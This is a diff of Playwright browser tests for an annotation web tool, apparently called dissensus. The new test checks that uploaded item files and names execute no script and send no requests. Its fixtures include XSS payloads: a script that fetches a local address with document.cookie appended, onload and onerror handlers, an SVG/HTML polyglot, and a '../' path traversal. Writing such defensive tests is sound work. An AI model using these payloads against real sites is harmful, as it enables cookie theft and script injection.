@@ -4,17 +4,20 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import re
 import shutil
 import subprocess
 import sys
 import zipfile
 from pathlib import Path
+from urllib.parse import quote
 
 import polars as pl
 import pytest
 
 from dissensus import demo, write
+from dissensus.app.journal import Journal
 
 playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
 CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser"))), None)
@@ -272,3 +275,90 @@ def test_images_of_items_are_shown(browser, bench):
     ann.page.wait_for_function("() => document.querySelector('img.item-image').naturalWidth === 1")
     assert image.get_attribute("src").startswith("/file?item=")
     ann.end()
+
+
+def test_files_of_items_run_nothing_and_send_nothing(tmp_path, browser):
+    script = "<script>window.ran = 1; fetch('http://127.0.0.1:9/' + document.cookie)</script>"
+    page = f"<!doctype html><body onload='window.ran = 1'>{script}<img src='http://127.0.0.1:9/'>"
+    drawing = f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.ran = 1'>{script}</svg>"
+    files = {
+        "page.png": page.encode(),
+        "drawing.png": drawing.encode(),
+        "drawing.svg": drawing.encode(),
+        "both.png": PIXEL + page.encode(),
+        "both.gif": b"GIF89a/*" + bytes(20) + b"*/=1;window.ran=1",
+        "page.mp4": page.encode(),
+        "wide.webp": page.encode("utf-16"),
+        '"><img src=x onerror=window.ran=1>.png': PIXEL,
+        f"{'n' * 240}.png": PIXEL,
+    }
+    for name, body in files.items():
+        (tmp_path / name).write_bytes(body)
+    texts = [*files, "http://127.0.0.1:9/x.png", "../x.png", page, f"{'x' * 5000}.png"]
+    items = [*map(str, range(len(texts) - 1)), f"<svg onload=window.ran=1>{'i' * 3000}"]
+    rows = [(item, who, label) for item in items for who, label in (("a", "x"), (script, "y"))]
+    pl.DataFrame(rows, schema=["item", "annotator", "label"], orient="row").write_csv(
+        tmp_path / "answers.csv"
+    )
+    pl.DataFrame({"item": items, "text": texts}).write_csv(tmp_path / "texts.csv")
+    bench = Bench(tmp_path / "answers.csv", "--inputs", str(tmp_path / "texts.csv"))
+    try:
+        context = browser.new_context()
+        requests: list[str] = []
+        context.on("request", lambda request: requests.append(request.url))
+        tab = context.new_page()
+        tab.goto(bench.link)
+        for item in items:
+            for path in ("items/one?name=", "file?item="):
+                tab.goto(f"{bench.address}/{path}{quote(item)}")
+                assert tab.evaluate("window.ran") is None
+        tab.goto(f"{bench.address}/")
+        for tag in ("script", "iframe", "object", "embed"):
+            for item in items:
+                tab.evaluate(
+                    "([tag, url]) => { const one = document.createElement(tag);"
+                    "one[tag === 'object' ? 'data' : 'src'] = url; document.body.append(one); }",
+                    [tag, f"{bench.address}/file?item={quote(item)}"],
+                )
+        tab.wait_for_timeout(500)
+        assert tab.evaluate("window.ran") is None
+        assert len(requests) > 2 * len(items)
+        assert {url for url in requests if not url.startswith((bench.address, "data:"))} == set()
+        context.close()
+    finally:
+        bench.end()
+
+
+def test_take_home_and_what_if_say_what_is_skipped_and_what_failed(data, browser):
+    def stored(**changes):
+        journal = Journal(data / "answers.csv.workbench")
+        journal.add("ann", "change", value=json.dumps({"renamed": {}, **changes}))
+        journal.close()
+
+    stored(left_out=["gone"])
+    bench = Bench(data / "answers.csv")
+    tab = browser.new_page()
+    try:
+        tab.goto(bench.link)
+        for path in ("take-home", "what-if"):
+            tab.goto(f"{bench.address}/{path}")
+            assert "'gone' is left out, but has no labels in the file any more" in tab.inner_text(
+                "main"
+            )
+        tab.click("text=Take this back")
+        tab.wait_for_selector("text=Kept now", state="detached")
+        tab.goto(f"{bench.address}/take-home")
+        assert "gone" not in tab.inner_text("main")
+    finally:
+        bench.end()
+    stored(left_out=[], method="kos")
+    bench = Bench(data / "answers.csv")
+    try:
+        tab.goto(bench.link)
+        tab.goto(f"{bench.address}/take-home")
+        assert "The last fit failed" in tab.inner_text("main")
+        assert "kos chooses between 2 classes" in tab.inner_text("main")
+        assert tab.locator(".files a").count() == 2
+    finally:
+        tab.close()
+        bench.end()
